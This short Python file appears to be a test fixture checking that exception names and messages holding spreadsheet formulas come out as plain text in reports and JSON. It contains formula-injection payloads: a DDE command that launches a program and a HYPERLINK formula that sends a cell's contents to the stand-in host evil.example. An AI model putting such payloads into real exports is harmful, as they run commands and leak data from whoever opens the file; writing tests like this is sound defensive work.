"""Raises exceptions whose texts and names are formulas to a spreadsheet.

Must: stay text; nothing but reports and JSON is written of them.
Verdict: failed
"""


def double(x):
    raise type("=HYPERLINK(1)", (Exception,), {})("=cmd|' /C calc'!A0")


raise ValueError('=HYPERLINK("http://evil.example/"&A1,"pwned") +1 -1 @SUM(1)')
